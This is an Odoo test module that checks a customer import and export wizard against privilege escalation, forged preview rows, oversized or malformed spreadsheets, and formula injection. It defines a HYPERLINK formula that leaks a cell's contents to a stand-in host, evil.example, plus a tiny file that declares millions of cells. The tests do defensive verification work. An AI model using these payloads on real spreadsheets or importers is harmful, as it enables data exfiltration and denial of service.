"""Attacks on the customer import over JSON-RPC (#12.4, #12.12, #12.13): refused or without effect."""

import base64
import io
import json
import re
import time
import zipfile

from odoo.tests import HttpCase, tagged

from .common import (
    GM_GROUPS,
    MANAGER_GROUPS,
    REP_GROUPS,
    SUPERVISOR_GROUPS,
    call_kw,
    company_user,
    read_xlsx,
    role_password,
    xlsx,
)

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'


def far_cells():
    """A few kilobytes whose cells reach XFD1 and A3000: 49 million cells once padded out."""
    return xlsx(["Customer Name", "Star Grade"], XFD1="x", A3000="Far Away Trading")


def broken_sheet_xml(data):
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        for name in source.namelist():
            content = source.read(name)
            if name == "xl/worksheets/sheet1.xml":
                content = content[: len(content) // 2]
            target.writestr(name, content)
    return buffer.getvalue()


@tagged("post_install", "-at_install")
class TestImportAttacks(HttpCase):
    def setUp(self):
        super().setUp()
        self.company = self.env.company
        self.rep = self._user("atk_rep", REP_GROUPS)
        self.manager = self._user("atk_manager", MANAGER_GROUPS)
        self.approver = self._user("atk_sup", SUPERVISOR_GROUPS)
        self.gm = self._user("atk_gm", GM_GROUPS)
        self.company.write({"tiering_approver_id": self.approver.id, "tiering_gm_id": self.gm.id})

    def _user(self, login, groups):
        return company_user(self.env, self.company, login, groups)

    def _login(self, user):
        self.authenticate(user.login, role_password(user.login))

    def _call(self, model, method, *args, **kwargs):
        """``(result, None)`` or ``(None, (error name, message))`` of a JSON-RPC call_kw."""
        body = call_kw(self, model, method, args, kwargs)
        if "error" in body:
            return None, (body["error"]["data"]["name"], body["error"]["data"]["message"])
        return body["result"], None

    def _refused(self, model, method, *args, **kwargs):
        result, error = self._call(model, method, *args, **kwargs)
        self.assertIsNone(result, "the call should have been refused")
        return error

    def _upload(self, data, filename="customers.xlsx"):
        wizard_id, error = self._call(
            "trade.customer.import.wizard",
            "create",
            {"file": base64.b64encode(data).decode(), "filename": filename},
        )
        self.assertIsNone(error)
        return wizard_id

    def _partners(self, name):
        return self.env["res.partner"].with_context(active_test=False).search([("name", "=", name)])

    # ------------------------------------------------------------------
    # #12.4 Import grants any grade
    # ------------------------------------------------------------------

    def test_sales_manager_importing_five_stars_opens_a_request(self):
        self._login(self.manager)
        wizard_id = self._upload(xlsx(("Customer Name", "Star Grade"), ("Attack Star Trading", 5)))
        self._call("trade.customer.import.wizard", "action_preview", [wizard_id])
        _result, error = self._call("trade.customer.import.wizard", "action_import", [wizard_id])
        self.assertIsNone(error)
        customer = self._partners("Attack Star Trading").with_company(self.company)
        self.assertEqual(len(customer), 1, "the customer itself is imported")
        self.assertIn(customer.tiering_star_grade, (False, "0"), "no grade without approval")
        self.assertIn(customer.tiering_star_grade_potential, (False, "0"))
        self.assertFalse(customer.tiering_service_tier_id.filtered(lambda tier: tier.max_star >= 3))
        self.assertFalse(
            self.env["trade.grade.history"].search([("partner_id", "=", customer.id), ("source", "=", "import")])
        )
        request = self.env["trade.grade.request"].search([("partner_id", "=", customer.id)])
        self.assertEqual(
            (request.source, request.requested_star, request.state, request.requester_id),
            ("import", "5", "to_approve", self.manager),
        )
        approver = request.tiering_approval_user_id
        self.assertTrue(approver.has_group("trade_crm_tiering.group_tiering_supervisor"), "a supervisor signs first")
        self.assertNotEqual(approver, self.manager)

    def test_sales_manager_cannot_lower_a_customer_below_its_approved_grade(self):
        customer = self.env["res.partner"].create({"name": "Approved VIP Co", "is_company": True, "customer_rank": 1})
        self.env["trade.tiering.engine"]._store_imported(self.company, {customer.id: 5}, "GM approved")
        self._login(self.manager)
        wizard_id = self._upload(xlsx(("Customer Name", "Star Grade"), ("Approved VIP Co", 0)))
        self._call("trade.customer.import.wizard", "action_preview", [wizard_id])
        _result, error = self._call("trade.customer.import.wizard", "action_import", [wizard_id])
        self.assertIsNone(error)
        customer.invalidate_recordset()
        self.assertEqual(
            (
                customer.with_company(self.company).tiering_star_grade,
                customer.with_company(self.company).tiering_star_grade_potential,
            ),
            ("5", "5"),
            "only a supervisor withdraws a potential grade",
        )

    def test_the_general_manager_imports_grades_as_they_are(self):
        self.gm.groups_id |= self.env.ref(MANAGER_GROUPS)
        self._login(self.gm)
        wizard_id = self._upload(xlsx(("Customer Name", "Star Grade"), ("GM Star Trading", 5)))
        self._call("trade.customer.import.wizard", "action_preview", [wizard_id])
        _result, error = self._call("trade.customer.import.wizard", "action_import", [wizard_id])
        self.assertIsNone(error)
        customer = self._partners("GM Star Trading").with_company(self.company)
        self.assertEqual((customer.tiering_star_grade, customer.tiering_star_grade_potential), ("5", "5"))
        self.assertFalse(self.env["trade.grade.request"].search([("partner_id", "=", customer.id)]))

    def test_a_rep_cannot_open_the_import(self):
        self._login(self.rep)
        name, _message = self._refused(
            "trade.customer.import.wizard",
            "create",
            {"file": base64.b64encode(xlsx(("Customer Name", "Star Grade"), ("Rep Star", 5))).decode()},
        )
        self.assertEqual(name, "odoo.exceptions.AccessError")
        self.assertFalse(self._partners("Rep Star"))

    # ------------------------------------------------------------------
    # #12.13 A forged rows_json
    # ------------------------------------------------------------------

    def _forge(self, rows_json):
        self._login(self.manager)
        wizard_id = self._upload(xlsx(("Customer Name",), ("Honest Row Co",)))
        _result, error = self._call(
            "trade.customer.import.wizard", "write", [wizard_id], {"state": "preview", "rows_json": rows_json}
        )
        self.assertIsNone(error)
        return wizard_id

    def test_a_forged_rows_json_is_refused_by_name(self):
        forged = (
            "{not json",
            json.dumps({"rows": 1}),
            json.dumps([[2, {"name": "Forged Co", "tiering_star_grade_actual": "5"}]]),
            json.dumps([[2, {"name": {"$ne": 1}}]]),
            json.dumps([["2", {"name": "Forged Co"}]]),
            json.dumps([[10**9, {"name": "Forged Co"}]]),
            json.dumps([[2, {"name": "Forged Co"}, "extra"]]),
            json.dumps([]),
        )
        for rows_json in forged:
            with self.subTest(rows_json=rows_json):
                wizard_id = self._forge(rows_json)
                name, message = self._refused("trade.customer.import.wizard", "action_import", [wizard_id])
                self.assertEqual(name, "odoo.exceptions.UserError")
                self.assertIn("previewed rows are not valid", message)
                self.assertFalse(self._partners("Forged Co"))
                self.assertFalse(self._partners("Honest Row Co"))

    def test_forged_rows_are_checked_again_and_grant_no_grade(self):
        wizard_id = self._forge(json.dumps([[2, {"name": "Forged VIP Co", "grade": "9"}]]))
        name, message = self._refused("trade.customer.import.wizard", "action_import", [wizard_id])
        self.assertEqual(name, "odoo.exceptions.UserError")
        self.assertIn("rows have problems", message)
        self.assertFalse(self._partners("Forged VIP Co"))
        wizard_id = self._forge(json.dumps([[2, {"name": "Forged VIP Co", "grade": "5"}]]))
        _result, error = self._call("trade.customer.import.wizard", "action_import", [wizard_id])
        self.assertIsNone(error)
        customer = self._partners("Forged VIP Co").with_company(self.company)
        self.assertIn(customer.tiering_star_grade, (False, "0"), "a grade from forged rows goes through approval too")
        self.assertEqual(self.env["trade.grade.request"].search([("partner_id", "=", customer.id)]).state, "to_approve")

    # ------------------------------------------------------------------
    # #12.12 Spreadsheets
    # ------------------------------------------------------------------

    def test_a_tiny_file_declaring_a_huge_sheet_is_refused_quickly(self):
        data = far_cells()
        self.assertLess(len(data), 10_000)
        self._login(self.manager)
        wizard_id = self._upload(data)
        started = time.monotonic()
        name, message = self._refused("trade.customer.import.wizard", "action_preview", [wizard_id])
        self.assertLess(time.monotonic() - started, 10)
        self.assertEqual(name, "odoo.exceptions.UserError")
        self.assertIn("16384 columns", message)
        wizard = self.env["trade.customer.import.wizard"].browse(wizard_id)
        self.assertEqual((wizard.state, wizard.rows_json), ("upload", False))
        self.assertFalse(self._partners("Far Away Trading"))

    def test_malformed_files_are_refused_by_name_not_with_a_traceback(self):
        good = xlsx(("Customer Name",), ("Broken Sheet Co",))
        self._login(self.manager)
        for data in (b"PK\x03\x04 not really a zip", broken_sheet_xml(good), b"name;country\nGulf;AE"):
            with self.subTest(data=data[:20]):
                wizard_id = self._upload(data)
                name, message = self._refused("trade.customer.import.wizard", "action_preview", [wizard_id])
                self.assertEqual(name, "odoo.exceptions.UserError")
                self.assertIn("cannot be read as an Excel workbook", message)
        self.assertFalse(self._partners("Broken Sheet Co"))

    def test_a_formula_in_a_customer_name_is_exported_as_text(self):
        customer = self.env["res.partner"].create(
            {"name": FORMULA, "is_company": True, "customer_rank": 1, "user_id": self.rep.id}
        )
        self._login(self.rep)
        action, error = self._call("res.partner", "action_trade_export_classification", [customer.id])
        self.assertIsNone(error)
        wizard_id = int(re.search(r"id=(\d+)", action["url"])[1])
        (record,), error = self._call("trade.customer.export.wizard", "read", [wizard_id], fields=["file"])
        self.assertIsNone(error)
        data = base64.b64decode(record["file"])
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            sheet_xml = archive.read("xl/worksheets/sheet1.xml")
        self.assertNotIn(b"<f>", sheet_xml, "no formula cell in the classification table")
        sheet = read_xlsx(data).worksheets[0]
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
        self.assertEqual([cell.data_type for cell in cells], ["s"])
